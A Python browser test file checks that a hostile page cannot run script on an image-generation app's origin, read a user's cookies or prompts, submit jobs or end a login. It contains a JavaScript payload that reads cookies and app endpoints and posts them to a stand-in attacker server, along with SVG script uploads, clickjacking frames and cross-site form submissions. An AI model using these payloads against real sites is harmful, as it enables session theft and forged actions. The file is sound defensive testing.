"""A page of another site in a visitor's own browser: it sends him here, frames us, asks, posts.

Nothing of it acts as he would: no script of that site runs on the app's origin, no job begins, no
login ends, not a word of his prompts gets out. Locally, with a login, and on a public page.
"""

import contextlib
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect
from pydantic import SecretStr

from sdgen.config import Settings
from sdgen.studio import Studio
from tests.browser.conftest import PATIENCE, ready
from tests.conftest import FakeEngine, FakeModelFiles
from tests.raw_http import uploaded
from tests.serving import GRADIO_WARNINGS, served

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600), *GRADIO_WARNINGS]
NAME, PASSWORD = "ann", "correct horse"
CANARY = "xyzzy-canary"
STOLEN = "a stolen boat"
LONG_ENOUGH = 3000  # milliseconds in which a download has begun, and no page has come
# An address that Gradio's own check takes for the internet's; it is this machine's for the test,
# where the test may do that. What is asserted holds either way.
OUTSIDE = "100.64.7.7"

# What the other site's script does wherever it comes to run: it tells home on which origin that is,
# and, there, everything that a visitor could read, begin or end.
SCRIPT = """
(async () => {
  const home = "HOME", told = async (what, text) =>
    fetch(`${home}/told?what=${what}&origin=${encodeURIComponent(location.origin)}`,
          {method: "POST", mode: "no-cors", body: String(text)});
  await told("ran", document.cookie);
  for (const path of ["/config", "/gradio_api/info", "/", "/sdgen/live", "/gradio_api/token"]) {
    try {
      const stop = new AbortController();
      setTimeout(() => stop.abort(), 1500);
      const answer = await fetch("APP" + path, {credentials: "include", signal: stop.signal});
      const reader = answer.body.getReader();
      let text = "";
      for (;;) {
        const {value, done} = await reader.read();
        if (done) break;
        text += new TextDecoder().decode(value);
        if (text.length > 4000) break;
      }
      await told("read" + path, answer.status + text);
    } catch (error) { await told("refused" + path, error); }
  }
  const job = JSON.stringify({data: ["a stolen boat", "", null, 1, 1, null, 64, 64]});
  for (const type of ["text/plain", "application/json"]) {
    try {
      const answer = await fetch("APP/gradio_api/call/submit",
        {method: "POST", credentials: "include", headers: {"Content-Type": type}, body: job});
      await told("posted", answer.status + await answer.text());
    } catch (error) { await told("refused-post", error); }
  }
  await told("end", "");
})();
"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>SCRIPT</script></svg>'


@dataclass
class Evil:
    """The other site: its pages, and what its scripts told home."""

    port: int = 0
    app: str = ""
    told: list[tuple[str, str, str]] = field(default_factory=list)  # (what, origin, text)
    served: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)

    @property
    def home(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def script(self) -> str:
        return SCRIPT.replace("HOME", self.home).replace("APP", self.app.rstrip("/"))

    def html(self, body: str = "") -> str:
        return f"<!doctype html><title>evil</title>{body}<script>{self.script()}</script>"

    def of(self, what: str) -> list[tuple[str, str, str]]:
        return [told for told in self.told if told[0] == what]


@pytest.fixture
def evil() -> Iterator[Evil]:
    site = Evil()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.served.append(f"{self.headers['Host']}{self.path}")
            body = site.pages.get(self.path.partition("?")[0], site.html()).encode()
            kind = "image/svg+xml" if self.path.endswith(".svg") else "text/html"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_HEAD = do_GET  # noqa: N815

        def do_POST(self) -> None:
            text = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
            query = dict(part.split("=") for part in urlsplit(self.path).query.split("&"))
            site.told.append((query["what"], query["origin"], text))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("0.0.0.0", 0), Handler)
    server.daemon_threads = True
    site.port = server.server_port
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    address = ["ip", "addr", "add", f"{OUTSIDE}/32", "dev", "lo"]
    added = shutil.which("ip") is not None and subprocess.run(address, check=False).returncode == 0
    yield site
    if added:
        subprocess.run(["ip", "addr", "del", f"{OUTSIDE}/32", "dev", "lo"], check=False)
    server.shutdown()
    server.server_close()
    thread.join()


@dataclass
class App:
    """A page that is being served, and who visits it."""

    kind: str
    url: str
    studio: Studio
    context: BrowserContext
    page: Page

    @property
    def origin(self) -> str:
        return quote(self.url.rstrip("/"), safe="")


@pytest.fixture(params=["local", "login", "public"])
def app(
    request: pytest.FixtureRequest, browser: Browser, evil: Evil, tmp_path: Path
) -> Iterator[App]:
    login = SecretStr(f"{NAME}:{PASSWORD}") if request.param == "login" else None
    settings = Settings(
        data_dir=tmp_path / "data", auth=login, yes_public=request.param == "public"
    )
    studio = Studio(settings, FakeEngine(), FakeModelFiles())
    studio.open_queue()
    with served(studio, settings) as url:
        evil.app = url
        context = browser.new_context()
        context.set_default_timeout(PATIENCE)
        page = context.new_page()
        if login is not None:
            page.goto(url)
            page.fill("input[name=username]", NAME)
            page.fill("input[name=password]", PASSWORD)
            page.click("button")
        ready(page, url)
        page.fill("#prompt textarea", CANARY)
        page.click("#generate")
        expect(page.locator(".sd-stage button.sd-frame img")).to_have_count(1, timeout=PATIENCE)
        yield App(request.param, url, studio, context, page)
        context.close()
    studio.close()


def assert_nothing_was_done(app: App, evil: Evil) -> None:
    """No script of the other site's ran here, and the visitor is as he was."""
    assert [told for told in evil.told if told[1] == app.origin] == []
    assert not [told for told in evil.told if CANARY in told[2]]
    again = app.context.new_page()
    ready(again, app.url)  # still logged in
    expect(again.locator(".sd-stage button.sd-frame img")).to_have_count(1, timeout=PATIENCE)
    expect(again.locator("body")).not_to_contain_text(STOLEN)
    again.close()


def targets(app: App, evil: Evil) -> list[str]:
    """Addresses of ours behind which the other site would have its page."""
    prefix = f"{app.url}gradio_api/file="
    there = [f"http://{OUTSIDE}:{evil.port}", evil.home]
    found = [f"{prefix}{site}/{name}" for site in there for name in ("x.html", "x.png", "x.svg")]
    found += [f"{app.url}{alias}{there[0]}/x.png" for alias in ("file=", "gradio_api/file/",
              "gradio_api/proxy=", "gradio_api/%66ile%3D", "/gradio_api/file=")]  # fmt: skip
    if app.kind == "public":  # its own programs may upload here; elsewhere nothing of its may
        for name, text in (
            ("x.html", evil.html()), ("x.svg", SVG.replace("SCRIPT", evil.script())),
            ("x.xhtml", evil.html()), ("x.png", evil.html()), ("x.txt", evil.html()),
        ):  # fmt: skip
            found.append(f"{prefix}{quote(uploaded(app.url, name, text.encode()))}")
    return found


def test_sent_here_by_a_link(app: App, evil: Evil) -> None:
    evil.pages["/x.svg"] = SVG.replace("SCRIPT", evil.script())
    evil.pages["/start"] = "<!doctype html><title>start</title>"
    for target in targets(app, evil):
        visited = app.context.new_page()
        visited.goto(f"{evil.home}/start")
        with contextlib.suppress(Error):  # it goes there, or it becomes a download
            visited.evaluate("target => { location.href = target }", target)
            visited.wait_for_url(lambda url: not url.startswith(evil.home), timeout=LONG_ENOUGH)
            visited.wait_for_load_state()
        assert visited.title() != "evil"
        visited.close()
    assert not [asked for asked in evil.served if asked.startswith(OUTSIDE)]
    assert_nothing_was_done(app, evil)


def test_in_a_frame(app: App, evil: Evil) -> None:
    """Neither a file nor the app itself shows, so nobody clicks on it unawares."""
    frames = "".join(f'<iframe src="{target}"></iframe>' for target in targets(app, evil))
    evil.pages["/frames"] = f"<!doctype html>{frames}<iframe id=app src='{app.url}'></iframe>"
    visited = app.context.new_page()
    said: list[str] = []
    visited.on("console", lambda message: said.append(message.text))
    visited.goto(f"{evil.home}/frames")
    visited.wait_for_timeout(1500)
    assert not [frame for frame in visited.frames if frame.locator("#generate").count()]
    assert any("frame-ancestors" in text for text in said)
    assert not [asked for asked in evil.served if asked.startswith(OUTSIDE)]
    assert_nothing_was_done(app, evil)


def test_by_its_own_script(app: App, evil: Evil) -> None:
    """fetch with cookies, from a window of its own."""
    visited = app.context.new_page()
    visited.goto(f"{evil.home}/script")
    while not evil.of("end"):
        visited.wait_for_timeout(50)
    assert evil.of("ran")  # so the script does what it does, there
    posted = evil.of("posted") + evil.of("refused-post")
    assert len(posted) == 2
    if app.kind != "public":
        assert not [told for told in evil.of("posted") if told[2].startswith("200")]
    assert_nothing_was_done(app, evil)


FORMS = [
    ("gradio_api/call/submit", "text/plain"),
    ("gradio_api/queue/join", "text/plain"),
    ("gradio_api/upload", "multipart/form-data"),
    ("logout", "application/x-www-form-urlencoded"),
    ("sdgen/me", "application/x-www-form-urlencoded"),
]


@pytest.mark.parametrize(("path", "kind"), FORMS)
def test_by_a_form(app: App, evil: Evil, path: str, kind: str) -> None:
    field_ = '{"data": ["a stolen boat"], "x": "'
    evil.pages["/form"] = (
        f'<!doctype html><form method=post enctype="{kind}" action="{app.url}{path}">'
        f"<input name='{field_}' value='\"}}'><input name=token value='{'e' * 32}'></form>"
        "<script>document.forms[0].submit()</script>"
    )
    visited = app.context.new_page()
    visited.goto(f"{evil.home}/form")
    visited.wait_for_timeout(500)
    assert_nothing_was_done(app, evil)


def test_by_a_link_or_a_picture_to_the_end_of_the_login(app: App, evil: Evil) -> None:
    evil.pages["/pictures"] = (
        f'<!doctype html><img src="{app.url}logout"><iframe src="{app.url}logout"></iframe>'
        f'<link rel="stylesheet" href="{app.url}logout"><a href="{app.url}logout">a prize</a>'
    )
    visited = app.context.new_page()
    visited.goto(f"{evil.home}/pictures")
    visited.wait_for_timeout(500)
    visited.click("a")
    visited.wait_for_load_state()
    if app.kind == "login":
        expect(visited.locator("h1")).to_have_text("sdgen: log out")
    assert_nothing_was_done(app, evil)
    if app.kind == "login":  # and whoever wants to does
        visited.get_by_role("button", name="Log out").click()
        expect(visited.locator("input[name=password]")).to_be_visible()
